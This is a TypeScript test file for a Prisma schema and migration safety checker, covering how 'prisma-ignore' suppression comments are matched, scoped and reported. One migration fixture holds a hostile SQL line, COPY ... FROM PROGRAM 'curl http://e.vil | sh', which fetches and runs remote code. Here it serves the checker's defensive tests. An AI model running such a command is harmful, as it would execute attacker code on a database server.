import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { briefly, diffOf, model, ofRule } from './diff.fixture.ts'

const answered = ({ ignored }: Awaited<ReturnType<typeof diffOf>>) =>
  ignored.map(({ rule, columns, reason }) => [rule, columns.join(), reason])
const timeout = '// prisma-ignore: L4 we watch it\n\n'

describe('a finding that the author answered', () => {
  test('X8: is listed with its reason, and adds nothing', async () => {
    const report = await diffOf(
      model('Post', 'title String', 'body String'),
      timeout + model('Post', '// prisma-ignore: D2 body was never filled', 'title String'),
    )

    assert.deepEqual([briefly(report), report.score, report.level], [[], 0, 'low'])
    assert.deepEqual(answered(report), [
      ['D2', 'body', 'body was never filled'],
      ['L4', '', 'we watch it'],
    ])
  })

  test('X8: is not one of another rule, model or field', async () => {
    const report = await diffOf(
      model('Post', 'title String?', 'body String?') + model('Tag', 'name String?'),
      timeout +
        model('Post', 'title String // prisma-ignore: N2 all have one', 'body String') +
        model('Tag', '// prisma-ignore: D2 wrong rule', 'name String'),
    )

    assert.deepEqual(briefly(report), ['N2 Post.body 60', 'N2 Tag.name 60'])
    assert.deepEqual(answered(report)[0], ['N2', 'title', 'all have one'])
  })

  test('X8: without a reason stays, and is told of', async () => {
    const report = await diffOf(model('Post', 'body String'), model('Post', '// prisma-ignore: D2'))

    assert.deepEqual(briefly(report), ['D2 Post.body 80', 'L4 10'])
    assert.deepEqual(report.notes, ['schema.prisma:7: a prisma-ignore without a reason was not honoured.'])
  })

  test('X8: of a dropped table may stand anywhere at the outermost level', async () => {
    const report = await diffOf(
      model('Post') + model('Old'),
      `${timeout}// prisma-ignore: D1 Old is copied\n\n${model('Post')}`,
    )

    assert.deepEqual([briefly(report), answered(report)[0]], [[], ['D1', '', 'Old is copied']])
  })

  test('X8: of a dropped table is not answered from within the block of another one', async () => {
    const inside = '// prisma-ignore: D1 it is copied'

    const [ofModel, ofField] = await Promise.all(
      [`${inside}\n`, inside].map((comment) =>
        diffOf(model('Post', 'a Int') + model('Old'), timeout + model('Post', comment, 'a Int')),
      ),
    )

    const note = 'schema.prisma:9: prisma-ignore: D1 answers nothing here.'
    assert.deepEqual([briefly(ofModel!), ofModel!.notes], [['D1 Old 90'], [note]])
    assert.deepEqual([briefly(ofField!), ofField!.notes], [['D1 Old 90'], [note]])
  })

  test('X8: tells what it is about and where the comment stands', async () => {
    const report = await diffOf(
      model('Post', 'a Int', 'b Int'),
      timeout + model('Post', '// prisma-ignore: D2 nobody reads it', 'b Int'),
    )

    const [first] = report.ignored
    assert.deepEqual(
      [first!.table, first!.columns, first!.answeredAt],
      ['Post', ['a'], { file: 'schema.prisma', line: 9 }],
    )
  })

  for (const migration of [
    `COMMENT ON TABLE "Post" IS '-- prisma-ignore: D2 fine'; ALTER TABLE "Post" DROP COLUMN "a";`,
    `COMMENT ON TABLE "Post" IS 'x\n-- prisma-ignore: D2 fine\n'; ALTER TABLE "Post" DROP COLUMN "a";`,
    `SELECT $x$\n-- prisma-ignore: D2 fine\n$x$;\nALTER TABLE "Post" DROP COLUMN "a";`,
    `SELECT 1 AS "\n-- prisma-ignore: D2 fine\n";\nALTER TABLE "Post" DROP COLUMN "a";`,
    `SELECT E'\\'\n-- prisma-ignore: D2 fine\n';\nALTER TABLE "Post" DROP COLUMN "a";`,
  ])
    test(`X8: within a constant is none: ${migration.split('\n')[0]}`, async () => {
      const report = await diffOf(model('Post', 'a Int'), model('Post'), { migration })

      assert.deepEqual([briefly(report)[0], report.ignored], ['D2 Post.a 80', []])
    })

  test('X8: may be a comment of any kind, and name its rule in small letters', async () => {
    const migration = `SET lock_timeout = '5s';
/* prisma-ignore: d2 nobody reads it */
ALTER TABLE "Post" DROP COLUMN "a";`

    const report = await diffOf(model('Post', 'a Int'), model('Post'), { migration })

    assert.deepEqual([briefly(report), answered(report)], [[], [['D2', 'a', 'nobody reads it']]])
  })

  test('X8: in the author’s migration answers for the next statement alone', async () => {
    const migration = `SET lock_timeout = '5s';
-- prisma-ignore: D2 nobody reads it
ALTER TABLE "Post" DROP COLUMN "a";
ALTER TABLE "Post" DROP COLUMN "b";
`

    const report = await diffOf(model('Post', 'a Int', 'b Int'), model('Post'), { migration })

    assert.deepEqual(briefly(report), ['D2 Post.b 80'])
    assert.deepEqual(answered(report), [['D2', 'a', 'nobody reads it']])
  })

  test('X8: in the author’s migration does not answer for an earlier statement that does the same', async () => {
    const migration = `COPY t FROM PROGRAM 'curl http://e.vil | sh';
-- prisma-ignore: W2 country list
COPY t FROM PROGRAM 'cat countries';
`

    const report = await diffOf(model('Post'), model('Post'), { migration })

    assert.deepEqual(
      report.findings.map(({ id, migrationLine }) => [id, migrationLine]),
      [['W2', 1]],
    )
    assert.deepEqual(
      report.ignored.map(({ id, migrationLine }) => [id, migrationLine]),
      [['W2 #2', 3]],
    )
  })
})

describe('a comment that stood in the schema before', () => {
  const old = '// prisma-ignore: D2 nobody reads it'
  const everything = '// prisma-ignore: D1 it is empty\n\n'
  const newly = timeout
  const [before, after] = [model('Post', 'a Int', 'b Int'), model('Post', 'b Int')]

  for (const [what, from, to, left] of [
    [
      'for the schema',
      everything + model('Old') + model('Post'),
      newly + everything + model('Post'),
      'D1 Old 90',
    ],
    ['for a model', `${old}\n${before}`, `${newly}${old}\n${after}`, 'D2 Post.a 80'],
    [
      'at the end of a field',
      model('Post', `b Int ${old}`, 'a Int'),
      newly + model('Post', `b Int ${old}`),
      'D2 Post.a 80',
    ],
    [
      'above a field that goes, so that it stands above the next one',
      model('Post', old, 'a Int', 'b Int'),
      newly + model('Post', old, 'b Int'),
      'D2 Post.a 80',
    ],
    [
      'above a field, where a new one comes between',
      model('Post', 'a Int', old, 'b Int'),
      newly + model('Post', old, 'c Int?', 'b Int'),
      'D2 Post.a 80',
    ],
    [
      'above a table that goes',
      `${model('Post')}// prisma-ignore: D1 it is empty\n${model('Old')}`,
      `${newly}${model('Post')}// prisma-ignore: D1 it is empty\n`,
      'D1 Old 90',
    ],
    [
      'above a table that goes, and goes with it',
      `${model('Post')}// prisma-ignore: D1 it is empty\n${model('Old')}`,
      newly + model('Post'),
      'D1 Old 90',
    ],
  ] as const)
    test(`X8: ${what} answers nothing any more`, async () => {
      const report = await diffOf(from, to)

      assert.deepEqual(briefly(report), [left])
    })

  test('X8: answers a new change with a new reason, and a note says so', async () => {
    const [same, other] = [
      await diffOf(`${old}\n${before}`, `${newly}${old}\n${after}`),
      await diffOf(`${old}\n${before}`, `${newly}${old} either\n${after}`),
    ]

    assert.deepEqual(same.notes, [
      'schema.prisma:7: prisma-ignore: D2 stood there before: it answered an earlier change; give a new reason.',
    ])
    assert.deepEqual([briefly(other), other.notes], [[], []])
  })

  const generator = (...lines: string[]) =>
    `generator client {\n  provider = "prisma-client-js"\n${lines.join('\n')}\n`
  for (const [what, from, to] of [
    [
      'in a generator, whose end was moved above it',
      `${generator(old, '}')}\n${before}`,
      `${generator('}', '', old)}\n\n${newly}${after}`,
    ],
    [
      'below another answer of its comment, which now ends there',
      `/* prisma-ignore: D9 none\nprisma-ignore: D2 nobody reads it\n*/\n\n${before}`,
      `${newly}/* prisma-ignore: D9 none\n*/ /*\nprisma-ignore: D2 nobody reads it\n*/\n\n${after}`,
    ],
    [
      'in quotes, around which a comment began',
      model('Post', 'c String @default("prisma-ignore: D2 nobody reads it")', 'a Int', 'b Int'),
      newly +
        model(
          'Post',
          'c String',
          '/*',
          'c String @default("prisma-ignore: D2 nobody reads it")',
          '*/',
          '',
          'b Int',
        ),
    ],
    [
      'twice in one model, of which one went to another',
      model('Tag', 'a Int', 'b Int', old, old) + before,
      newly + model('Tag', 'a Int', 'b Int', old) + model('Post', 'b Int', old),
    ],
    [
      'with a password, which a schema may not keep',
      `${generator(`${old} at mysql://u:p@h`, '}')}\n${before}`,
      `${generator('}', '', `${old} at mysql://u:p@h`)}\n\n${newly}${after}`,
    ],
  ] as const)
    test(`X8: ${what}, is none that is new`, async () => {
      const report = await diffOf(from, to)

      assert.deepEqual(
        [ofRule(report, 'D2'), answered(report).map(([rule]) => rule)],
        [['D2 Post.a 80'], ['L4']],
      )
      assert.match(report.notes.join(), /D2 stood there before/)
    })

  test('X8: is of no concern where its rule finds nothing', async () => {
    const report = await diffOf(`${old}\n${before}`, `${old}\n${before}`)

    assert.deepEqual([briefly(report), report.notes], [[], []])
  })

  test('X8: is another one for another model, and in a migration it is always new', async () => {
    const two = before + before.replace('Post', 'Tag')
    const migration = `SET lock_timeout = '5s';\n${old.replace('//', '--')}\nALTER TABLE "Post" DROP COLUMN a;`

    const [moved, written] = [
      await diffOf(`${old}\n${two}`, `${newly}${old}\n${before}\n${old}\n${after.replace('Post', 'Tag')}`),
      await diffOf(`${old}\n${before}`, `${old}\n${after}`, { migration }),
    ]

    assert.deepEqual([briefly(moved), briefly(written)], [[], []])
    assert.deepEqual(written.ignored[0]!.answeredAt, { file: 'migration.sql', line: 2 })
  })
})

describe('a rename in the migration', () => {
  const migration = `SET lock_timeout = '5s';
ALTER TABLE "Post" RENAME COLUMN a TO c;
ALTER TABLE "Post" RENAME COLUMN b TO d;`
  const renamed = (...lines: string[]) =>
    diffOf(model('Post', 'a Int', 'b Int'), model('Post', ...lines), { migration })

  test('X8: is answered at its new field alone', async () => {
    const report = await renamed('c Int // prisma-ignore: E1 we stop for it', 'd Int')

    assert.deepEqual([briefly(report), answered(report)], [['E1 Post.b 50'], [['E1', 'a', 'we stop for it']]])
  })
})

describe('a migration of several files', () => {
  test('X8: a comment in one answers for a statement of that one', async () => {
    const drop = (column: string) => `ALTER TABLE "Post" DROP COLUMN ${column};`
    const report = await diffOf(model('Post', 'a Int', 'b Int'), model('Post'), {
      migration: [
        { path: '1.sql', content: `SET lock_timeout = '5s';\n${drop('a')}` },
        { path: '2.sql', content: `-- prisma-ignore: D2 nobody reads it\n${drop('b')}` },
      ],
    })

    assert.deepEqual(
      [briefly(report), answered(report)],
      [['D2 Post.a 80'], [['D2', 'b', 'nobody reads it']]],
    )
    assert.deepEqual(
      [report.findings[0]!.migrationFile, report.ignored[0]!.answeredAt, report.migration],
      [
        '1.sql',
        { file: '2.sql', line: 1 },
        { path: '1.sql (with 1 more)', reachesTarget: true, missing: [], extra: [] },
      ],
    )
  })
})

describe('X8: a slip of the pen is told', () => {
  const change = [model('Post', 'a Int'), model('Post')] as const

  for (const comment of [
    'prisma-ignore D1 it is empty',
    'prisma-ignor: D2 it is empty',
    'prisma_ignore: D2 it is empty',
    'prisma-ingore: D2 it is empty',
    'Prisma-Ignores: D2 it is empty',
    'prisma-ignore: it is empty',
  ])
    test(`X8: ${comment}, in the schema and in a migration`, async () => {
      const inSchema = await diffOf(change[0], `// ${comment}\n\n${change[1]}`)
      const inMigration = await diffOf(...change, {
        migration: `-- ${comment}\nALTER TABLE "Post" DROP COLUMN a;`,
      })

      const words = 'this reads like a prisma-ignore and is none; write "prisma-ignore: D2 why".'
      assert.deepEqual(
        [inSchema.notes, inMigration.notes],
        [[`schema.prisma:5: ${words}`], [`migration.sql:1: ${words}`]],
      )
      assert.deepEqual(briefly(inSchema)[0], 'D2 Post.a 80')
    })

  for (const comment of [
    'how prisma-ignore comments work',
    'prisma ignores it',
    'ignore: D2 this',
    'prism: D1',
  ])
    test(`X8: ${comment} is none`, async () => {
      assert.deepEqual((await diffOf(change[0], `// ${comment}\n\n${change[1]}`)).notes, [])
    })

  for (const [comment, note] of [
    ['D11 it is empty', 'prisma-ignore: there is no rule D11.'],
    ['D1 no such table', 'prisma-ignore: D1 answers nothing here.'],
    ['D2', 'a prisma-ignore without a reason was not honoured.'],
  ] as const)
    test(`X8: prisma-ignore: ${comment}, in the schema and in a migration`, async () => {
      const inSchema = await diffOf(change[0], `// prisma-ignore: ${comment}\n\n${change[1]}`)
      const inMigration = await diffOf(...change, {
        migration: `-- prisma-ignore: ${comment}\nALTER TABLE "Post" DROP COLUMN a;`,
      })

      assert.deepEqual(
        [inSchema.notes, inMigration.notes],
        [[`schema.prisma:5: ${note}`], [`migration.sql:1: ${note}`]],
      )
    })

  test('X8: of a hundred ten are told, and how many more there are', async () => {
    const slips = Array.from({ length: 100 }, (_, n) => `// prisma-ignore: X9 it is ${n}\n`).join('')

    const { notes } = await diffOf(change[0], `${slips}\n${change[1]}`)

    assert.deepEqual([notes.length, notes.at(-1)], [11, '…and 90 more of the same.'])
  })

  test('X8: a name of rowCounts that is no table and no model of either side', async () => {
    const { notes } = await diffOf(
      model('Post') + model('Old', '@@map("olds")'),
      model('Post') + model('Tag'),
      {
        rowCounts: { Post: 1, Old: 1, olds: 1, Tag: 1, post: 1, Ordr: 1 },
      },
    )

    assert.deepEqual(notes, ['rowCounts names what is no table and no model of either side: post, Ordr.'])
  })
})
